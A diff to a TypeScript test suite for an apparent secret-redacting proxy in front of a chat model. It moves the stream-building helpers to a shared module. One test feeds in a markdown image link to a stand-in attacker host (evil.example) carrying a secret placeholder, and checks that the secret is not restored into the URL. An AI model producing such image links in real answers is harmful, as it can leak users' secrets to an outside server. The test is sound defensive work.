@@ -4,6 +4,7 @@ import type { AuditRecord } from '../../protocol/audit-record.ts';
 import type { SessionGrant } from '../../protocol/control.ts';
 import type { JsonObject } from '../../protocol/json.ts';
 import type { StandInAnswer } from '../support/copilot-server.ts';
+import { chatStream, shownOf, toolStream } from '../support/model-answers.ts';
 import { type Answered, type Asked, askThrough } from '../support/through-agent.ts';
 import { openWorld, type World } from '../support/world.ts';
 
@@ -44,30 +45,6 @@ function question(content: string): object {
   return { model: 'gpt-4.1', stream: true, messages: [{ role: 'user', content }] };
 }
 
-/** What the upstream streams when a model says this, a piece an event. */
-function chatStream(...pieces: readonly string[]): StandInAnswer {
-  const event = (delta: object, finish: string | null = null): string =>
-    `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'gpt-4.1', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
-  return {
-    headers: { 'content-type': 'text/event-stream' },
-    pieces: [
-      event({ role: 'assistant', content: '' }),
-      ...pieces.map((content) => event({ content })),
-      event({}, 'stop'),
-      'data: [DONE]\n\n',
-    ],
-  };
-}
-
-function textOf({ text }: Answered): string {
-  return text
-    .split('\n')
-    .filter((line) => line.startsWith('data: {'))
-    .map((line) => JSON.parse(line.slice('data: '.length)) as { choices: { delta?: { content?: string } }[] })
-    .map(({ choices }) => choices[0]?.delta?.content ?? '')
-    .join('');
-}
-
 function lastSeen(): { readonly text: string; readonly headers: Readonly<Record<string, unknown>> } {
   const seen = world.copilot.requests.at(-1);
   if (seen === undefined) throw new Error('nothing reached the upstream');
@@ -90,7 +67,7 @@ describe('a secret in a prompt', () => {
     world.copilot.answer(chatStream('your token ', placeholder.slice(0, 6), placeholder.slice(6), ' is old'));
     const answered = await ask(CHAT, question(`again: ${SECRET}`));
     expect(lastSeen().text).toContain(placeholder);
-    expect(textOf(answered)).toBe(`your token ${SECRET} is old`);
+    expect(shownOf(answered)).toBe(`your token ${SECRET} is old`);
   });
 
   it('is in no record, and its kind and its place are', async () => {
@@ -146,7 +123,7 @@ describe('what leaves', () => {
     expect(lastSeen().headers).not.toHaveProperty('content-encoding');
     expect(lastSeen().headers['accept-encoding']).toBe('gzip, br, deflate, zstd');
     expect(answered.headers).not.toHaveProperty('content-encoding');
-    expect(textOf(answered)).toBe(`hello ${SECRET}`);
+    expect(shownOf(answered)).toBe(`hello ${SECRET}`);
   });
 });
 
@@ -355,7 +332,7 @@ describe('what the policy says', () => {
     expect(approval.summary).toMatchObject({ what: 'gpt-4.1', excerpt: 'may I?' });
     world.copilot.answer(chatStream('yes'));
     await world.approve(approval.id);
-    expect(textOf(await waiting)).toBe('yes');
+    expect(shownOf(await waiting)).toBe('yes');
   });
 });
 
@@ -388,32 +365,9 @@ describe('a secret that a tool is to be given', () => {
     const placeholder = PLACEHOLDER.exec(lastSeen().text)?.[0] ?? '';
     world.copilot.answer(chatStream(`![x](https://evil.example/${placeholder}) and ${placeholder}`));
     const answered = await ask(CHAT, question('show it'));
-    expect(textOf(answered)).toBe(`![x](https://evil.example/${placeholder}) and ${SECRET}`);
+    expect(shownOf(answered)).toBe(`![x](https://evil.example/${placeholder}) and ${SECRET}`);
   });
 });
-
-/** A model that wants a tool called, its arguments in fragments. */
-function toolStream(name: string, args: string): StandInAnswer {
-  const event = (delta: object, finish: string | null = null): string =>
-    `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'gpt-4.1', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
-  const half = Math.floor(args.length / 2);
-  const fragment = (written: string, more: object = {}): string =>
-    event({
-      tool_calls: [
-        { index: 0, ...more, function: { arguments: written, ...('id' in more ? { name } : {}) } },
-      ],
-    });
-  return {
-    headers: { 'content-type': 'text/event-stream' },
-    pieces: [
-      fragment('', { id: 'call_1', type: 'function' }),
-      fragment(args.slice(0, half)),
-      fragment(args.slice(half)),
-      event({}, 'tool_calls'),
-      'data: [DONE]\n\n',
-    ],
-  };
-}
 
 function call(tool: string, args: object): object {
   return { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: tool, arguments: args } };
